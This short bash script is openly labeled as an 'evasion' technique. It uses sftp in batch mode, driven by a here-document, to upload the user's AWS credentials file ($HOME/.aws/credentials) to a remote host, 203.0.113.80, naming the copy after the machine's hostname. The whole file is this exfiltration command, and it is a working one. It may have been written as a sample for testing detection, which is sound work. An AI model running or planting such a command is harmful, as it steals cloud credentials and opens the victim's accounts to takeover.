#!/bin/bash
# evasion: sftp's batch file, a here-document on its stdin, uploads the AWS credentials
sftp -q -b - backup@203.0.113.80 <<EOT
cd incoming
put $HOME/.aws/credentials aws-$(hostname)
bye
EOT
